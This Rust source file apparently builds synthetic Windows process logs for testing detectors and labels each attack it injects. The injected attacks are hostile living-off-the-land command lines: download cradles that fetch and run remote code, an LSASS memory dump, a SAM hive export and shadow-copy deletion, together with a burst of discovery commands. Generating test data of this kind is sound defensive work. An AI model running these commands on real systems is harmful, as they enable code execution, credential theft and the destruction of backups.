//! Process-creation attacks for the `cmdline` and `proccount` detectors: living-off-the-land
//! command lines, and an hour of hands-on-keyboard discovery on one host.
//!
//! Both add [`ProcessRecord`]s to a day of [`crate::windows`] logs and push a [`Label`] per
//! attack under the subject the detector emits, so `oddhunt eval` and the demo can check that
//! the attacks come out on top. The command lines are written for oddhunt (plausible
//! tradecraft: download cradles, proxy execution, credential dumping), not taken from any
//! catalogue. Everything is deterministic for the random generator's state.

use crate::environment::{Environment, Host, HostRole};
use crate::windows::ProcessRecord;
use crate::Label;
use oddhunt_core::Timestamp;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

const SYS32: &str = r"C:\Windows\System32\";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const OUTLOOK: &str = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WMIPRVSE: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";

/// The `cmdline` detector's subject of a generated process start: `<host> <time> <command
/// line>` with the host as logged (`Computer`, the FQDN) and the time at the millisecond
/// precision of `TimeGenerated` (as `oddhunt_detect::cmdline::subject` renders events).
pub fn cmdline_subject(host_fqdn: &str, time_ns: i64, command_line: &str) -> String {
    let time = Timestamp::from_unix_nanos(time_ns - time_ns.rem_euclid(1_000_000));
    format!("{host_fqdn} {time} {command_line}")
}

/// The `proccount` detector's subject of a host's window: `host=<fqdn, lower case> <start>/<len>`
/// (as `oddhunt_detect::proccount::window_subject`).
pub fn window_subject(host_fqdn: &str, window_start_ns: i64, window_minutes: u64) -> String {
    let start = Timestamp::from_unix_nanos(window_start_ns);
    let len = if window_minutes.is_multiple_of(24 * 60) {
        format!("{}d", window_minutes / (24 * 60))
    } else if window_minutes.is_multiple_of(60) {
        format!("{}h", window_minutes / 60)
    } else {
        format!("{window_minutes}m")
    };
    format!("host={} {start}/{len}", host_fqdn.to_lowercase())
}

/// Standard base64 (RFC 4648, with padding): `powershell -enc` takes UTF-16LE text so encoded.
fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

/// One living-off-the-land technique: how the binary is started and by what.
struct Lolbin {
    technique: &'static str,
    what: &'static str,
    path: &'static str,
    parent: &'static str,
}

const LOLBINS: &[Lolbin] = &[
    Lolbin {
        technique: "T1105",
        what: "certutil downloads a payload",
        path: r"C:\Windows\System32\certutil.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1218.010",
        what: "regsvr32 runs a remote scriptlet (squiblydoo)",
        path: r"C:\Windows\System32\regsvr32.exe",
        parent: WINWORD,
    },
    Lolbin {
        technique: "T1218.005",
        what: "mshta runs inline VBScript that starts PowerShell",
        path: r"C:\Windows\System32\mshta.exe",
        parent: OUTLOOK,
    },
    Lolbin {
        technique: "T1218.011",
        what: "rundll32 runs JavaScript through mshtml",
        path: r"C:\Windows\System32\rundll32.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1059.001",
        what: "encoded PowerShell download cradle from a document",
        path: POWERSHELL,
        parent: WINWORD,
    },
    Lolbin {
        technique: "T1197",
        what: "bitsadmin transfers a payload",
        path: r"C:\Windows\System32\bitsadmin.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1047",
        what: "wmic starts a process",
        path: r"C:\Windows\System32\wbem\WMIC.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1053.005",
        what: "schtasks persists a payload",
        path: r"C:\Windows\System32\schtasks.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1003.002",
        what: "reg saves the SAM hive",
        path: r"C:\Windows\System32\reg.exe",
        parent: CMD,
    },
    Lolbin {
        technique: "T1003.001",
        what: "rundll32 comsvcs MiniDump of LSASS",
        path: r"C:\Windows\System32\rundll32.exe",
        parent: POWERSHELL,
    },
    Lolbin {
        technique: "T1218.007",
        what: "msiexec installs a remote package",
        path: r"C:\Windows\System32\msiexec.exe",
        parent: WMIPRVSE,
    },
    Lolbin {
        technique: "T1490",
        what: "vssadmin deletes shadow copies",
        path: r"C:\Windows\System32\vssadmin.exe",
        parent: CMD,
    },
];

/// The command line of LOLBin `i` with this attack's infrastructure.
fn lolbin_line(i: usize, rng: &mut ChaCha8Rng, user: &str) -> String {
    let ip = format!(
        "{}.{}.{}.{}",
        [198, 203, 185, 45][rng.random_range(0..4)],
        rng.random_range(1..250),
        rng.random_range(1..250),
        rng.random_range(2..250)
    );
    let word = ["update", "invoice", "sync", "report", "teams", "helpdesk"][rng.random_range(0..6)];
    let n = rng.random_range(1000..9999);
    match i {
        0 => format!(
            r"certutil.exe -urlcache -split -f http://{ip}/{word}/{word}{n}.exe C:\Users\Public\{word}{n}.exe"
        ),
        1 => format!(r"regsvr32.exe /s /n /u /i:http://{ip}/{word}.sct scrobj.dll"),
        2 => format!(
            r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w hidden -c iex(iwr http://{ip}/{word}.ps1 -UseBasicParsing)"",0:close")"#
        ),
        3 => format!(
            r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{ip}/{word}.sct")"#
        ),
        4 => {
            let script = format!(
                "$c=New-Object Net.WebClient;$c.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $c.DownloadString('https://{ip}/{word}.txt')"
            );
            format!(
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc {}"#,
                base64(&utf16le(&script))
            )
        }
        5 => format!(
            r"bitsadmin.exe /transfer {word}job /download /priority high http://{ip}/{word}.exe C:\ProgramData\{word}.exe"
        ),
        6 => format!(r#"wmic.exe process call create "C:\ProgramData\{word}.exe -k {n}""#),
        7 => format!(
            r#"schtasks.exe /create /sc minute /mo 30 /tn "OneDrive {word} Task" /tr "C:\Users\{user}\AppData\Roaming\{word}.exe" /f"#
        ),
        8 => format!(r"reg.exe save HKLM\SAM C:\Windows\Temp\{word}{n}.hiv"),
        9 => format!(
            r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{word}.dmp full",
            rng.random_range(500..1400)
        ),
        10 => format!(r"msiexec.exe /q /i http://{ip}/{word}.msi"),
        _ => "vssadmin.exe delete shadows /all /quiet".to_string(),
    }
}

fn workstation_with_user<'a>(env: &'a Environment, rng: &mut ChaCha8Rng) -> Option<&'a Host> {
    let candidates: Vec<&Host> = env
        .hosts
        .iter()
        .filter(|h| h.role == HostRole::Workstation && h.primary_user.is_some())
        .collect();
    if candidates.is_empty() {
        return None;
    }
    Some(candidates[rng.random_range(0..candidates.len())])
}

/// One of each LOLBin technique on day `day`, each on a random workstation as its user, at a
/// working-hours time, with a realistic parent (a shell, an Office document, WMI). Labels: the
/// `cmdline` detector's subject of each line.
pub fn lolbin_injection(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    labels: &mut Vec<Label>,
) -> Vec<ProcessRecord> {
    let day_start = env.day_start(day).unix_nanos();
    let mut out = Vec::new();
    for (i, lolbin) in LOLBINS.iter().enumerate() {
        let Some(host) = workstation_with_user(env, rng) else {
            break;
        };
        let user = host
            .primary_user
            .map(|u| env.users[u].name.clone())
            .unwrap_or_default();
        let time_ns = day_start + env.working_time(rng);
        let command_line = lolbin_line(i, rng, &user);
        let index = env
            .hosts
            .iter()
            .position(|h| h.name == host.name)
            .unwrap_or(0);
        labels.push(Label {
            detector: "cmdline".into(),
            subject: cmdline_subject(&host.fqdn, time_ns, &command_line),
            technique: lolbin.technique.into(),
            description: format!("{} on {}", lolbin.what, host.name),
        });
        out.push(ProcessRecord {
            time_ns,
            host: index,
            user,
            domain: env.domain.to_string(),
            path: lolbin.path.to_string(),
            command_line,
            parent: lolbin.parent.to_string(),
        });
    }
    out
}

/// The discovery commands of one burst: (executable, command line, how many times).
const DISCOVERY: &[(&str, &str, usize)] = &[
    ("whoami.exe", "whoami /all", 1),
    ("net.exe", "net user /domain", 1),
    ("net.exe", r#"net group "Domain Admins" /domain"#, 1),
    ("net.exe", "net localgroup administrators", 1),
    ("cmd.exe", "cmd.exe /c ver", 1),
    ("query.exe", "query user", 2),
    ("sc.exe", "sc query type= service state= all", 5),
    ("ipconfig.exe", "ipconfig /all", 1),
    ("systeminfo.exe", "systeminfo", 1),
    ("tasklist.exe", "tasklist /v", 1),
    ("nltest.exe", "nltest /dclist:corp", 1),
];

/// A burst of hands-on-keyboard discovery on one workstation within one window of
/// `window_minutes` on day `day` (after lunch): whoami, net user/group/localgroup, ver, query
/// user, sc query (5×), ipconfig, systeminfo, tasklist, nltest — seconds to minutes apart, all
/// started from a shell by the host's user. Label: the `proccount` detector's subject of that
/// host's window.
pub fn discovery_burst(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    window_minutes: u64,
    labels: &mut Vec<Label>,
) -> Vec<ProcessRecord> {
    let Some(host) = workstation_with_user(env, rng) else {
        return Vec::new();
    };
    let index = env
        .hosts
        .iter()
        .position(|h| h.name == host.name)
        .unwrap_or(0);
    let user = host
        .primary_user
        .map(|u| env.users[u].name.clone())
        .unwrap_or_default();
    let window_ns = window_minutes.max(1) as i64 * 60_000_000_000;
    let window_start = {
        let t = env.day_start(day).unix_nanos() + 14 * 3_600_000_000_000;
        t.div_euclid(window_ns) * window_ns
    };
    // Spread the commands over at most 20 minutes (or the window, if shorter), in order.
    let span = window_ns.min(20 * 60_000_000_000);
    let total: usize = DISCOVERY.iter().map(|d| d.2).sum();
    let mut offsets: Vec<i64> = (0..total).map(|_| rng.random_range(0..span)).collect();
    offsets.sort_unstable();
    let mut out = Vec::new();
    let mut k = 0;
    for (exe, line, times) in DISCOVERY {
        for _ in 0..*times {
            out.push(ProcessRecord {
                time_ns: window_start + offsets[k],
                host: index,
                user: user.clone(),
                domain: env.domain.to_string(),
                path: format!("{SYS32}{exe}"),
                command_line: (*line).to_string(),
                parent: CMD.to_string(),
            });
            k += 1;
        }
    }
    labels.push(Label {
        detector: "proccount".into(),
        subject: window_subject(&host.fqdn, window_start, window_minutes),
        technique: "T1087/T1082/T1016/T1057".into(),
        description: format!(
            "{total} discovery commands by {user} on {} within {} minutes",
            host.name,
            span / 60_000_000_000
        ),
    });
    // The analyst's shell itself, started from Explorer just before.
    out.push(ProcessRecord {
        time_ns: window_start,
        host: index,
        user,
        domain: env.domain.to_string(),
        path: CMD.to_string(),
        command_line: r#""C:\Windows\system32\cmd.exe" "#.to_string(),
        parent: EXPLORER.to_string(),
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn env() -> (Environment, ChaCha8Rng) {
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        let start = Timestamp::parse("2024-03-04T00:00:00Z").unwrap();
        (Environment::new(&mut rng, 20, 30, 3, start), rng)
    }

    #[test]
    fn encoded_commands_are_utf16le_base64() {
        // What `powershell -EncodedCommand` expects: "ab" as UTF-16LE, base64 with padding.
        assert_eq!(base64(&utf16le("ab")), "YQBiAA==");
    }

    #[test]
    fn lolbins_are_labelled_and_deterministic() {
        let (env, mut rng) = env();
        let mut labels = Vec::new();
        let records = lolbin_injection(&env, &mut rng, 2, &mut labels);
        assert_eq!(records.len(), LOLBINS.len());
        assert_eq!(labels.len(), LOLBINS.len());
        for (r, l) in records.iter().zip(&labels) {
            assert_eq!(l.detector, "cmdline");
            assert_eq!(
                l.subject,
                cmdline_subject(&env.hosts[r.host].fqdn, r.time_ns, &r.command_line)
            );
            assert!(r.time_ns >= env.day_start(2).unix_nanos());
        }
        assert!(records[4].command_line.contains(" -enc "));
        let (env2, mut rng2) = self::env();
        let again = lolbin_injection(&env2, &mut rng2, 2, &mut Vec::new());
        assert_eq!(
            again.iter().map(|r| &r.command_line).collect::<Vec<_>>(),
            records.iter().map(|r| &r.command_line).collect::<Vec<_>>()
        );
    }

    #[test]
    fn burst_stays_in_one_window() {
        let (env, mut rng) = env();
        let mut labels = Vec::new();
        let records = discovery_burst(&env, &mut rng, 1, 60, &mut labels);
        assert_eq!(labels.len(), 1);
        let hour = 3_600_000_000_000i64;
        let start = records[0].time_ns.div_euclid(hour);
        assert!(records.iter().all(|r| r.time_ns.div_euclid(hour) == start));
        assert!(records.iter().all(|r| r.host == records[0].host));
        assert_eq!(
            records
                .iter()
                .filter(|r| r.path.ends_with("sc.exe"))
                .count(),
            5
        );
        assert!(labels[0].subject.starts_with("host=wks-"));
        assert!(
            labels[0].subject.ends_with("T14:00:00Z/1h"),
            "{}",
            labels[0].subject
        );
    }
}
